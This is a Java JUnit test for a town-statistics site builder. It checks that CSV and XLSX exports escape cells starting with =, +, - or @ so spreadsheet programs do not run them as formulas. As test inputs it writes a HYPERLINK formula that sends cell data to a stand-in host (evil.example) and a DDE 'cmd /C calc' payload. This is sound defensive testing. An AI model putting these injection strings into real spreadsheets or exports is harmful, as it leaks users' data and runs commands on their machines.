package townstats.pipeline;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Issue 25, case 2: a report named {@code =HYPERLINK("…","x").txt} or a sidecar {@code county: "=…"} put cells starting
 * with {@code =} into data/facts.csv and data/ranking-tables.csv, files made for Excel and WPS, which run such a cell
 * as a formula. No cell of any CSV the site holds starts a formula: a text cell beginning with = + - @ (or a tab or a
 * carriage return) gets a leading apostrophe, the spreadsheets' mark for text; numbers keep their sign. The workbook
 * holds no formula cell.
 */
class FormulaCellsTest {
    private static final String HYPERLINK = "=HYPERLINK(\"evil.example?leak=\"&A1,\"x\")";

    @TempDir
    Path tmp;

    @Test
    void noSpreadsheetCellStartsAFormula() throws IOException {
        TestProject p = TestProject.withSamples(tmp.resolve("project"));
        Files.writeString(p.reports.resolve(HYPERLINK + ".txt"), "青石镇2022年工作总结\n全年完成财政收入4410万元，同比增长-5%。\n",
                StandardCharsets.UTF_8);
        Files.writeString(p.reports.resolve("000_3b4a4675a0c82837.yml"), "county: \"=1+2\"\ntitle: \"+cmd|' /C calc'!A0\"\n",
                StandardCharsets.UTF_8);
        Files.writeString(p.reports.resolve("@evil.txt"), "白水镇2022年工作总结\n全年完成财政收入3120万元，同比增长4%。\n", StandardCharsets.UTF_8);
        Map<String, String> before = TestProject.hashes(p.content);
        Build.Result result = new Build(p.options().withExports(true), TestProject.extractor(),
                new java.io.PrintStream(p.log, true, StandardCharsets.UTF_8)).run();
        assertEquals(List.of(), result.skipped());
        assertEquals(before, TestProject.hashes(p.content), "inputs unchanged");
        assertEquals(TestProject.sampleFiles().size() + 2, p.factsPerReport().size(), "the whole site is built");

        List<Path> csvs;
        try (Stream<Path> s = Files.walk(p.site)) {
            csvs = s.filter(f -> f.toString().endsWith(".csv")).sorted().toList();
        }
        assertTrue(csvs.contains(p.site.resolve("data/facts.csv")) && csvs.contains(p.site.resolve("data/ranking-tables.csv")), csvs.toString());
        List<String> cells = new ArrayList<>();
        for (Path csv : csvs) {
            for (String cell : cells(csv)) {
                assertTrue(!startsFormula(cell), p.site.relativize(csv) + ": " + cell);
                cells.add(cell);
            }
        }
        assertTrue(cells.contains("'" + HYPERLINK), "the report's name, kept as text");
        assertTrue(cells.contains("'@evil"), "a cell beginning with @ too");
        assertTrue(cells.contains("-5"), "a negative number keeps its sign");
        List<String> facts = cells(p.site.resolve("data/facts.csv"));
        assertTrue(facts.contains("'" + HYPERLINK + ".txt"), "the source column");
        assertTrue(cells(p.site.resolve("data/ranking-tables.csv")).contains("'" + HYPERLINK), "the ranking tables' report column");

        try (InputStream in = Files.newInputStream(p.site.resolve("data/townstats.xlsx")); XSSFWorkbook wb = new XSSFWorkbook(in)) {
            boolean hyperlinkAsText = false;
            for (Sheet sheet : wb) {
                for (Row row : sheet) {
                    for (Cell cell : row) {
                        assertTrue(cell.getCellType() != CellType.FORMULA, sheet.getSheetName() + " " + cell.getAddress());
                        if (cell.getCellType() == CellType.STRING && cell.getStringCellValue().equals(HYPERLINK)) hyperlinkAsText = true;
                    }
                }
            }
            assertTrue(hyperlinkAsText, "the workbook keeps the name as it is, a text cell");
        }
        assertEquals(List.of(), new Build(p.options().withExports(true), TestProject.extractor(),
                new java.io.PrintStream(p.log, true, StandardCharsets.UTF_8)).run().skipped(), "the next build succeeds");
    }

    private static boolean startsFormula(String cell) {
        if (cell.isEmpty() || "=+-@\t\r".indexOf(cell.charAt(0)) < 0) return false;
        return !cell.matches("[-+]?\\d+(\\.\\d+)?([eE][-+]?\\d+)?");
    }

    private static List<String> cells(Path csv) throws IOException {
        String text = Files.readString(csv, StandardCharsets.UTF_8);
        if (text.startsWith("\uFEFF")) text = text.substring(1);
        List<String> out = new ArrayList<>();
        try (CSVParser parser = CSVParser.parse(text, CSVFormat.RFC4180)) {
            for (CSVRecord r : parser) out.addAll(r.toList());
        }
        return out;
    }
}
